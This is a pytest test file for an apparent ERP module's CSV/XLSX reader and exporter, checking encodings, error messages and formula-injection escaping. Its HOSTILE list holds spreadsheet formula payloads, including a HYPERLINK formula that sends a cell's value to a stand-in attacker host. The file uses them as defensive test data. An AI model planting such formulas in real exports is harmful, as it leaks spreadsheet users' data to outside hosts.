import csv
import datetime
import io

import pytest
from openpyxl import Workbook, load_workbook

from erpteam.tabular import TableError, inert, read_table, table_bytes


def xlsx(rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_it_reads_utf8_csv_with_row_numbers():
    table = read_table(b"Name,Role\nLi Wei,key_user\n\nChen Mei,end_user\n", filename="roster.csv")
    assert table.header == ["name", "role"]
    assert table.rows == [(2, {"name": "Li Wei", "role": "key_user"}), (4, {"name": "Chen Mei", "role": "end_user"})]


def test_it_reads_csv_with_a_bom_and_gbk_csv():
    text = "姓名,部门\n李伟,财务部\n"
    for data in (text.encode("utf-8-sig"), text.encode("gbk")):
        table = read_table(data, filename="名单.csv")
        assert table.rows == [(2, {"姓名": "李伟", "部门": "财务部"})]


def test_it_reads_semicolon_separated_csv():
    assert read_table(b"name;role\nLi;key_user\n", filename="r.csv").rows == [(2, {"name": "Li", "role": "key_user"})]


def test_it_reads_the_first_sheet_of_an_xlsx_file():
    table = read_table(xlsx([["Name", "Count"], ["Li Wei", 3]]), filename="r.xlsx")
    assert table.rows == [(2, {"name": "Li Wei", "count": "3"})]


@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (b"", "r.csv", "empty"),
        (b"name\n", "r.pdf", "Upload a .csv or .xlsx"),
        (b"not a zip", "r.xlsx", "cannot be opened"),
        (b"\xff\xfe\x00\x00garbage\x80\x81", "r.csv", "not readable text"),
        (b"name,name\nx,y\n", "r.csv", "named twice"),
        (b"name\nx,y\n", "r.csv", "Row 2 has more cells"),
    ],
)
def test_it_refuses_unreadable_files_with_a_clear_message(data, filename, message):
    with pytest.raises(TableError, match=message):
        read_table(data, filename=filename)


def test_require_names_the_missing_columns():
    table = read_table(b"name\nx\n", filename="r.csv")
    with pytest.raises(TableError, match="Missing columns: role"):
        table.require(["name", "role"])


def test_exports_round_trip_in_both_formats():
    rows = [("李伟", 3), ("Chen Mei", None)]
    csv_data = table_bytes(header=["Name", "Count"], rows=rows, file_format="csv")
    assert csv_data.startswith(b"\xef\xbb\xbf")
    assert read_table(csv_data, filename="x.csv").rows == [
        (2, {"name": "李伟", "count": "3"}),
        (3, {"name": "Chen Mei", "count": ""}),
    ]
    sheet = load_workbook(io.BytesIO(table_bytes(header=["Name", "Count"], rows=rows, file_format="xlsx"))).active
    assert [list(r) for r in sheet.iter_rows(values_only=True)] == [["Name", "Count"], ["李伟", 3], ["Chen Mei", None]]


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&B5,"Open details")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_prefixes_a_quote_to_text_a_spreadsheet_would_run(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("text", ["Li Na", "", "'quoted", "a=b", "1+1", "李伟"])
def test_inert_leaves_other_text_alone(text):
    assert inert(text) == text


def test_the_csv_writes_text_inertly_and_numbers_as_they_are():
    data = table_bytes(header=["=title", "n"], rows=[[text, -5] for text in HOSTILE], file_format="csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["'=title", "n"]
    assert rows[1:] == [["'" + text, "-5"] for text in HOSTILE]


def test_the_xlsx_writes_text_as_strings_never_formulas_and_keeps_numbers_and_dates_typed():
    day = datetime.date(2026, 12, 8)
    data = table_bytes(header=["=title", "n", "day"], rows=[[text, -5, day] for text in HOSTILE], file_format="xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    assert [(c.value, c.data_type) for c in next(sheet.iter_rows())] == [("'=title", "s"), ("n", "s"), ("day", "s")]
    for row, text in zip(sheet.iter_rows(min_row=2), HOSTILE, strict=True):
        # XML reads a carriage return back as a line feed.
        assert (row[0].value, row[0].data_type) == ("'" + text.replace("\r", "\n"), "s")
        assert (row[1].value, row[1].data_type) == (-5, "n")
        assert row[2].is_date
        assert row[2].value.date() == day


def test_the_xlsx_leaves_out_characters_a_workbook_cannot_hold():
    data = table_bytes(header=["title"], rows=[["bell\x07 here"]], file_format="xlsx")
    assert load_workbook(io.BytesIO(data)).active["A2"].value == "bell here"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_reading_an_export_back_drops_the_quote_the_export_added(file_format):
    names = ["-Li", "+86 Wang", "=Chen", "@Zhao", "'Connor", "O'Brien", "Li Na"]
    data = table_bytes(header=["name"], rows=[[name] for name in names], file_format=file_format)
    table = read_table(data, filename=f"r.{file_format}")
    assert [cells["name"] for _row, cells in table.rows] == names
